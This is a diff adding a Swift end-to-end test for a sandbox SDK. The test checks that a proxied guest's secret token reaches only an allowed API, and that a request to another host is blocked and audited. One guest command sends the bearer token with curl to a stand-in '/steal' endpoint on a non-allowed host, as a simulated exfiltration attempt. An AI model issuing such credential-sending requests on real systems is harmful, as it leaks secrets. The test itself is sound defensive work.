@@ -1,0 +1,71 @@
+import Foundation
+import Testing
+
+/// The Swift SDK drives a real sandbox (the builtin guest, TCG here) through the example
+/// program in `examples/sandbox-run`, in the launcher's namespace internet: create, run
+/// several commands in the same guest, read their output and status, stop; nothing left.
+@Suite("SDK end to end", .serialized, .enabled(if: isRoot, "needs root for namespaces, TAP and QEMU"))
+struct SDKEndToEndTests {
+    static let example = CLI.root + "/examples/sandbox-run/.build/debug/sandbox-run"
+    static let realValue = "sdk-real-token-0042"
+
+    @Test func theExampleProgramCreatesRunsAndStopsASandbox() throws {
+        try #require(
+            FileManager.default.isExecutableFile(atPath: Self.example),
+            "build the example first: make examples (swift build --package-path examples/sandbox-run)")
+        try LauncherEndToEndTests.image.get()
+        let harness = try ProxyHarness(mode: .launcher)
+        defer { harness.close() }
+        let launcher = LauncherEndToEndTests()
+        let api = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
+        let other = try harness.upstream("203.0.113.11", port: 443, cert: "other.example.test")
+        let before = try harness.appliance("nft list ruleset; iptables-nft-save | grep -v '^#'").stdout
+        let runDirectory = LauncherEndToEndTests.state + "/run"
+        let runDirectoriesBefore = Set((try? FileManager.default.contentsOfDirectory(atPath: runDirectory)) ?? [])
+        let first = "echo \"guest sees TOKEN=$TOKEN\"; echo kept > /root/state; echo first-stderr >&2"
+        let second = """
+            cat /root/state
+            curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://api.example.test/sdk; echo
+            curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://other.example.test/steal || echo "blocked $?"
+            exit 5
+            """
+        let out = harness.directory + "/sdk.out", err = harness.directory + "/sdk.err"
+        let arguments = [
+            "ip", "netns", "exec", harness.applianceNamespace, "env", "TOKEN=\(Self.realValue)", Self.example,
+            "--state-dir", LauncherEndToEndTests.state, "--name", "sdk\(harness.shortID)", "--upstream-ca", harness.directory + "/upca.pem",
+            "--audit-log", harness.auditLog, "TOKEN", "api.example.test", "--", "sh", "-c", first, "--", "sh", "-c", second,
+        ]
+        let line = "exec " + arguments.map(harness.shellQuote).joined(separator: " ") + " >\(out) 2>\(err)"
+        let process = try harness.spawn("/bin/sh", ["-c", line], stdout: harness.directory + "/sdk.sh.out")
+        harness.processes.append(process)
+        let deadline = Date().addingTimeInterval(150)
+        while process.isRunning, Date() < deadline { usleep(50_000) }
+        let stdout = launcher.text(out), stderr = launcher.text(err)
+        #expect(!process.isRunning, "still running:\n\(stdout)\n\(stderr)")
+        #expect(process.terminationStatus == 5, "stdout:\n\(stdout)\nstderr:\n\(stderr)")
+        // Both commands ran in one guest: the file the first wrote is there for the second.
+        #expect(stdout.contains("guest sees TOKEN=$MSB_TOKEN\nkept\nok\n"), "\(stdout)\n\(stderr)")
+        #expect(stdout.contains("blocked"), "\(stdout)")
+        #expect(stderr.contains("first-stderr") && !stdout.contains("first-stderr"))
+        // The allowed API got the real value; the other host got nothing; the audit says so.
+        let records = harness.records(api)
+        #expect(records.count == 1)
+        #expect(harness.header(records.first ?? [:], "Authorization") == "Bearer \(Self.realValue)")
+        #expect(harness.records(other).isEmpty)
+        #expect(stderr.contains("substituted 1") && stderr.contains("violation 1"), "\(stderr)")
+        let audit = launcher.text(harness.auditLog)
+        #expect(audit.contains("\"event\":\"violation\"") && audit.contains("\"level\":\"warn\""))
+        for text in [stdout, stderr, audit] { #expect(!text.contains(Self.realValue)) }
+        try launcher.expectCleanedUp(harness, rulesBefore: before)
+        // This sandbox's run directory (initrd, console, the agent socket that runs commands)
+        // is the owner's alone, and holds no socket or initrd once stopped.
+        let runFiles = Set((try? FileManager.default.contentsOfDirectory(atPath: runDirectory)) ?? []).subtracting(runDirectoriesBefore)
+        #expect(runFiles.count == 1, "\(runFiles)")
+        for directory in runFiles {
+            let mode = (try? FileManager.default.attributesOfItem(atPath: runDirectory + "/" + directory)[.posixPermissions] as? Int) ?? nil
+            #expect(mode == 0o700, "\(directory): \(String(mode ?? -1, radix: 8))")
+            let left = (try? FileManager.default.contentsOfDirectory(atPath: runDirectory + "/" + directory)) ?? []
+            #expect(!left.contains("agent.sock") && !left.contains("initrd"), "\(directory): \(left)")
+        }
+    }
+}
